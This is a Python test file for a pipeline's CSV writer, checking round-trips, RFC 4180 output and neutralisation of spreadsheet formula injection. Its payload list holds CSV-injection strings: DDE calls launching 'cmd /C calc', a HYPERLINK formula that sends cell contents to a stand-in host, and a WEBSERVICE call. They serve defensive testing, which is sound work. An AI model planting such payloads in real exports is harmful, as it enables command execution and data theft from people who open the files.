"""CSV: what is read back is what was written, and no text is a formula."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.publish import csv_file

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?x="&A1,"Тут")', "=1+1;2", '=1+1"";=2',
    "-2+3+cmd|' /C calc'!D2",
    "@", "-", "=", "+", "=WEBSERVICE(\"http://a.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1\n=2",
]  # fmt: skip
"""Texts that spreadsheets take for formulas, and what is made of them."""

SIGNS = "=+-@\t\r＝＋－＠"


def _rows(*columns: Any) -> list[list[str]]:
    out = io.BytesIO()
    batch = pa.RecordBatch.from_arrays(
        [pa.array(c) if isinstance(c, list) else c for c in columns], [*"abcdefgh"][: len(columns)]
    )
    csv_file.write_csv(out, batch.schema.names, [batch])
    return list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline=""), strict=True))[1:]


def _as_read(text: str) -> str:
    return text[1:] if re.match(f"'+[{re.escape(SIGNS)}]", text) else text


@given(st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(PAYLOADS), min_size=1))
def test_texts_come_back_whole_and_none_begins_like_a_formula(texts: list[str]) -> None:
    found = [row[0] for row in _rows(texts, list(range(len(texts))))]
    assert [_as_read(text) for text in found] == texts
    assert not [text for text in found if text[:1] and text[0] in SIGNS]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_made_safe(payload: str) -> None:
    assert _rows([payload], [1]) == [["'" + payload, "1"]]


def test_numbers_are_untouched() -> None:
    values = pa.array([Decimal("-5.20"), Decimal("-0.1")], pa.decimal128(38, 10))
    assert _rows(values, [-3, 4]) == [["-5.2", "-3"], ["-0.1", "4"]]


def test_harmless_texts_stay() -> None:
    texts = ["'", "''", "'тест", "a=1", " =1", "1-2", "Об'єкт", "−5", "№ 1"]
    assert [row[0] for row in _rows(texts, [0] * len(texts))] == texts


def test_the_form_is_rfc_4180() -> None:
    out = io.BytesIO()
    batch = pa.RecordBatch.from_arrays(
        [pa.array(['a"b', "c,d", "e\r\nf", None, " g"]), pa.array([True, False, None, True, True])], ["x", "y"]
    )
    csv_file.write_csv(out, ["x", "y,z"], [batch])
    assert out.getvalue() == b'x,"y,z"\r\n"a""b",true\r\n"c,d",false\r\n"e\r\nf",\r\n,true\r\n" g",true\r\n'


def test_more_rows_than_are_written_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_file, "SLICE", 2)
    assert _rows(["a", "b", "c", "d", "e"], [1, 2, 3, 4, 5]) == [
        ["a", "1"],
        ["b", "2"],
        ["c", "3"],
        ["d", "4"],
        ["e", "5"],
    ]
